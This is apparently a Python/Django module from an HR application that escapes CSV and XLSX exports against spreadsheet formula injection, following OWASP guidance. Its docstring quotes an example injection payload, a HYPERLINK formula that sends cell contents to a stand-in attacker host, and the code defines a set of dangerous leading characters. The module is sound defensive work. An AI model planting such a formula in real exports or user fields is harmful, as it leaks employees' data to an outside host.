"""The one way to write a spreadsheet export (CSV or XLSX) that no spreadsheet can run.

Text written by people (a name, a comment, an adjustment reason, a department) reaches HR's
exports. A spreadsheet program opening a cell that begins with ``=``, ``+``, ``-`` or ``@`` runs it
as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "Details")`` in an employee's comment
would send their neighbours' cells away when HR clicks it. Every export therefore writes its
cells through ``safe_cell`` (``csv_response``, ``csv_stream`` and ``xlsx_row`` do it for them), and
the test in tests/core/test_exports.py downloads every export with such text in it.

The rule follows OWASP's CSV Injection guidance (owasp.org/www-community/attacks/CSV_Injection)
and ASVS 5.0 requirement 1.2.10: a text cell whose first character is ``=``, ``+``, ``-``, ``@``,
a tab, a carriage return (or a NUL) is prefixed with a single quote, so the spreadsheet shows it
as text. Beyond that minimum, and for the same reason:

* a line feed, which some programs trim off the front like the carriage return;
* the full-width forms ``＝ ＋ － ＠``, which a spreadsheet set up for East Asian input may turn
  into their ASCII twins; a name that really begins with one is rare, and a visible quote
  before it costs less than the doubt;
* the same characters after leading spaces, since LibreOffice's CSV import can trim spaces
  ("Trim spaces") before it evaluates formulas.

Numbers, Decimals, dates, booleans and None pass through unchanged, so numeric columns stay
numeric in the XLSX and are written as plain digits in the CSV (a negative number is a number,
not text beginning with "-"). Any other object is written as its text, escaped the same way.

In an XLSX a string cell is never a formula, whatever it begins with, but openpyxl stores any
string that begins with "=" as one; ``xlsx_row`` therefore writes every text cell explicitly as a
string, on top of escaping it, so that the file reads the same whether saved on to CSV or not.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import HttpResponse, StreamingHttpResponse

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# The byte-order mark lets spreadsheet programs read the names as UTF-8.
BOM = "\ufeff"

# The leads a spreadsheet may read as the start of a formula (see the module's docstring).
DANGEROUS_LEADS = frozenset("=+-@\t\r\n\0＝＋－＠")
ESCAPE = "'"

# Kept as they are: a spreadsheet shows them as numbers or dates, never runs them.
_PASS_THROUGH = (int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula: it begins, or begins after
    spaces, with one of the dangerous leads."""
    return text[:1] in DANGEROUS_LEADS or text.lstrip()[:1] in DANGEROUS_LEADS


def safe_cell(value: Any) -> Any:
    """The value as an export writes it: text a spreadsheet could run gets a leading single quote;
    numbers, Decimals, dates, booleans and None are returned unchanged; anything else as its text."""
    if value is None or isinstance(value, _PASS_THROUGH):  # bool is an int
        return value
    text = value if isinstance(value, str) else str(value)
    return ESCAPE + text if is_dangerous(text) else text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


# ---------------------------------------------------------------- CSV


class _Echo:
    """A file-like object whose write returns the line, so csv.writer can feed a generator."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> Iterator[str]:
    """Each row as one escaped CSV line (None as an empty field), produced lazily so that a
    streaming response stays streaming."""
    writer = csv.writer(_Echo())
    if bom:
        yield BOM
    for row in rows:
        yield writer.writerow(safe_row(row))


def _attachment(response: HttpResponse | StreamingHttpResponse, filename: str) -> None:
    response["Content-Disposition"] = f'attachment; filename="{filename}"'


def csv_response(rows: Iterable[Iterable[Any]], filename: str, *, bom: bool = True) -> HttpResponse:
    """A CSV download of the rows (the header being the first), every cell through safe_cell,
    built in memory."""
    response = HttpResponse("".join(csv_lines(rows, bom=bom)), content_type=CSV_CONTENT_TYPE)
    _attachment(response, filename)
    return response


def csv_stream(rows: Iterable[Iterable[Any]], filename: str, *, bom: bool = True) -> StreamingHttpResponse:
    """The same download written while the rows are read (give it an iterator, e.g. over a
    queryset's ``.iterator()``), for exports that can be long."""
    response = StreamingHttpResponse(csv_lines(rows, bom=bom), content_type=CSV_CONTENT_TYPE)
    _attachment(response, filename)
    return response


# ---------------------------------------------------------------- XLSX


def xlsx_cell(sheet: Any, value: Any, *, font: Any = None) -> Any:
    """One openpyxl cell for ``sheet`` (write-only or not) holding the escaped value; text is
    stored as a string, never as a formula or an error code."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = safe_cell(value)
    if isinstance(value, str):
        # XML cannot hold most control characters; openpyxl refuses the whole file for one.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any], *, font: Any = None) -> None:
    """Append one escaped row to an openpyxl worksheet (write-only or not)."""
    sheet.append([xlsx_cell(sheet, v, font=font) for v in values])


def xlsx_response(workbook: Any, filename: str) -> HttpResponse:
    """An XLSX download of an openpyxl workbook whose rows were written with xlsx_row."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_CONTENT_TYPE)
    _attachment(response, filename)
    return response
